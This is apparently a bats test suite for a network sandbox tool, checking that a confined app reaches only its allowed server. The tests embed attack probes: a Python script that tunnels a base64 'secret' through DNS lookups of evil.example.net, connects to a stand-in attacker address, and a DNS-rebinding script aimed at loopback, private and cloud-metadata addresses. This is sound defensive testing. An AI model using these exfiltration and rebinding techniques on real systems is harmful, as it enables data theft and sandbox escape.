#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
#
# Every other way out that anybody has thought of, on the tests' internet: what counts is what
# arrives at the other end of the cable.

bats_require_minimum_version 1.5.0
load helper
load internet

setup()
{
	setup_in work sidedoors nolandlock
	internet_listen
	internet_start
	zone '{"web.example.com": {"A": ["192.0.2.10"]}, "evil.example.net": {"A": ["192.0.2.99"], "TXT": ["x"]}}'
}

# Nothing but this has arrived.
assert_heard() # LINE...
{
	internet_heard
	# A machine that is new on a cable says so itself.
	assert_equal "$(grep -v -e '^udp 192.0.2.1 9$' -e '^icmp6 ff02:' "$T/heard" | sort)" "$(printf '%s\n' "$@" | sort)" "what arrived"
}

doors() # RULES [COMMAND...]
{
	local rules=$1

	shift
	jq -n --argjson rules "[$rules]" '{version: 1, domain: "app", net: {rules: $rules}}' >"$T/app.json"
	run on_host "$@" "$VRUN" run -T -p "$T/app.json" -- ./sidedoors 192.0.2.10 192.0.2.99 2001:db8:2::99 443
	assert_matches "$output" '[0-9]+ checks, 0 failed' || return 1
	assert_status 0
}

# The app's connections there are the machine's own sockets; at port 9 nobody serves.
readonly WEB='{"allow": "connect", "to": ["192.0.2.10:443", "192.0.2.10:9"]}'

@test "an app with one allowed server outside reaches no other by any call" {
	doors "$WEB"
	assert_heard 'tcp 192.0.2.10 443' 'tcp 192.0.2.10 9'
	internet_stop
	assert_nothing_left
}

@test "nor does one with datagrams, whose connections are relayed" {
	doors '{"allow": "connect", "to": "192.0.2.10:443", "rate": "100MB/s"}, {"allow": "connect", "to": "192.0.2.10:7", "proto": "udp"}'
	assert_heard 'tcp 192.0.2.10 443'
}

@test "nor where there is no second wall" {
	doors "$WEB" ./nolandlock
	assert_heard 'tcp 192.0.2.10 443' 'tcp 192.0.2.10 9'
}

@test "a socket of the machine that vrun was given as standard input is none inside" {
	jq -n --argjson rules "[$WEB]" '{version: 1, domain: "app", net: {rules: $rules}}' >"$T/app.json"
	cat >stdin.py <<-'END'
		import os, socket, stat
		print(stat.S_ISSOCK(os.fstat(0).st_mode), os.read(0, 100))
		try:
		    socket.socket(fileno=0).connect(("192.0.2.99", 443))
		except OSError as e:
		    print(e.strerror)
	END
	run -0 --separate-stderr on_host bash -c 'exec "$@" 0<>/dev/tcp/192.0.2.10/443' sh "$VRUN" run -T -p "$T/app.json" -- python3 stdin.py
	assert_output "False b'192.0.2.10 443 from 198.51.100.2\\n'
Socket operation on non-socket"
	assert_heard 'tcp 192.0.2.10 443'
}

@test "nothing is said to anybody by looking up names" {
	cat >tunnel.py <<-'END'
		import socket, struct

		def ask(sock, name, kind, server=("127.0.0.53", 53)):
		    q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1)
		    q = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + q
		    if sock.type == socket.SOCK_STREAM:
		        sock.sendall(struct.pack("!H", len(q)) + q)
		        n = struct.unpack("!H", sock.recv(2, socket.MSG_WAITALL))[0]
		        return sock.recv(n, socket.MSG_WAITALL)[3] & 15
		    sock.sendto(q, server)
		    return sock.recv(4096)[3] & 15

		udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
		tcp = socket.create_connection(("127.0.0.53", 53), 20)
		udp.settimeout(20)
		codes = set()
		for s in udp, tcp:
		    for name in ("c2VjcmV0.evil.example.net", "x" * 63 + "." + "y" * 63 + ".evil.example.net", "evil.example.net",
		                 "secret.web.example.com", "web.example.com.evil.example.net", "net", "10.2.0.192.in-addr.arpa"):
		        for kind in 1, 28, 16, 5, 15, 10, 255, 65:
		            codes.add(ask(s, name, kind))
		print(*sorted(codes))
		# Of a name that may be asked for nothing but the name goes out: neither the case of its letters nor a type.
		print(*[ask(udp, name, kind) for name in ("wEb.eXaMpLe.CoM", "WEB.example.com") for kind in (1, 16, 15, 10)])
		for server in "198.51.100.53", "192.0.2.99":
		    try:
		        ask(udp, "secret.example.net", 1, (server, 53))
		    except OSError as e:
		        print(e.strerror)
		try:
		    socket.create_connection(("198.51.100.53", 53), 20)
		except OSError as e:
		    print(e.strerror)
	END
	run -0 --separate-stderr sandbox '{"allow": "connect", "to": "web.example.com:443"}' python3 tunnel.py
	assert_output "3
0 0 0 0 0 0 0 0
Permission denied
Permission denied
Permission denied"
	# shellcheck disable=SC2154 # set by run
	assert_contains "$stderr" "look up c2vjcmv0.evil.example.net"
	assert_equal "$(sort -u "$T/questions")" "A web.example.com" "what the name server was asked"
	assert_heard 'udp 198.51.100.53 53'
}

@test "a name that comes to mean an address that is not public leads nowhere, also in mid-run" {
	# One address each: of two the quicker one would be taken.
	zone "$(jq -n '["a", "b", "c", "d", "e"] | map({key: "\(.).example.com",
		value: ((if . < "d" then {A: ["192.0.2.10"]} else {AAAA: ["2001:db8:2::10"]} end) + {ttl: 1})}) | from_entries')"
	cat >rebind.py <<-'END'
		import errno, socket, sys, time

		names = [f"{n}.example.com" for n in "abcde"]
		places = [socket.getaddrinfo(n, 443, socket.AF_INET6 if n[0] in "de" else socket.AF_INET)[0][4] for n in names]

		def says(place):
		    with socket.socket(socket.AF_INET6 if ":" in place[0] else socket.AF_INET) as s:
		        try:
		            s.connect(place)
		            return s.recv(100).split()[0].decode()
		        except OSError as e:
		            return errno.errorcode[e.errno]

		print(*map(says, places), flush=True)
		sys.stdin.readline()
		# What was looked up is good for some seconds.
		end = time.monotonic() + 30
		while (now := [*map(says, places)]) != ["EACCES"] * 5 and time.monotonic() < end:
		    time.sleep(0.2)
		print(*now, flush=True)
	END
	mkfifo go
	jq -n '{version: 1, domain: "app", net: {rules: [{allow: "connect", to: "*.example.com:443"}]}}' >"$T/app.json"
	spawn app on_host "$VRUN" run -T -p "$T/app.json" -- python3 -c 'import sys
sys.stdin = open("go")
exec(open("rebind.py").read())' </dev/null
	exec 9<>go
	wait_until grep -q ' ' "$T/app.out" || fail "$(<"$T/app.err")"
	assert_equal "$(<"$T/app.out")" "192.0.2.10 192.0.2.10 192.0.2.10 2001:db8:2::10 2001:db8:2::10" "at first"
	zone '{"a.example.com": {"A": ["127.0.0.1"], "ttl": 1}, "b.example.com": {"A": ["10.20.0.1"], "ttl": 1},
		"c.example.com": {"A": ["169.254.169.254"], "ttl": 1}, "d.example.com": {"AAAA": ["::1"], "ttl": 1},
		"e.example.com": {"AAAA": ["::ffff:10.20.0.1"], "ttl": 1}}'
	: >"$T/heard"
	echo >&9
	exec 9>&-
	WAIT_SECONDS=40 wait_exit "${PID[app]}"
	assert_equal "$(tail -n 1 "$T/app.out")" "EACCES EACCES EACCES EACCES EACCES" "then"
	assert_contains "$(<"$T/app.err")" 10.20.0.1
	internet_heard
	assert_equal "$(grep -e 10.20.0.1 -e 169.254.169.254 "$T/heard" || :)" "" "what arrived"
}
